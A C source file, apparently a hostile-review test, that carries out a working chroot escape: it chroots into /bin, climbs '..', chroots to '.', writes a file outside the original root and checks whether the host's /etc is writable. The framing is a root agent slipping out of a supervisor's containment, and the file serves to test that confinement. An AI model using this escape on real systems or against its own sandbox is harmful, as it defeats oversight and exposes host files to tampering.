/* ha19-chroot.c (hostile review h-attack19): a root agent whose supervisor
 * was started inside a chroot (schroot, sbuild, pbuilder, systemd's
 * RootDirectory=) leaves it with CAP_SYS_CHROOT, which the supervisor keeps:
 * chroot into a subdirectory while the working directory stays above it,
 * climb "..", chroot("."). It is then at the mount namespace's real root,
 * whose mounts outside the chroot never appeared in the supervisor's
 * /proc/self/mountinfo, so none of them was made read-only.
 * Usage: ha19-chroot PATH TEXT: write TEXT to PATH (a path outside the
 * chroot), before and after climbing out. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/statvfs.h>
#include <unistd.h>

static int try_write(const char *path, const char *text, const char *when)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	if (fd < 0) {
		printf("agent: %s: open %s: %s\n", when, path, strerror(errno));
		return -1;
	}
	if (write(fd, text, strlen(text)) < 0)
		printf("agent: %s: write %s: %s\n", when, path, strerror(errno));
	else
		printf("agent: %s: wrote %s\n", when, path);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	struct statvfs sv;

	if (argc != 3)
		return 2;
	try_write(argv[1], argv[2], "inside the chroot");
	if (chdir("/") != 0 || chroot("/bin") != 0) {
		printf("agent: chroot /bin: %s\n", strerror(errno));
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		printf("agent: chroot .: %s\n", strerror(errno));
		return 1;
	}
	try_write(argv[1], argv[2], "after climbing out");
	/* Only looked at, never written: the real host's root file system. */
	if (statvfs("/etc", &sv) == 0)
		printf("agent: the namespace's real /etc is %s\n",
		       (sv.f_flag & ST_RDONLY) ? "read-only" : "WRITABLE");
	return 0;
}
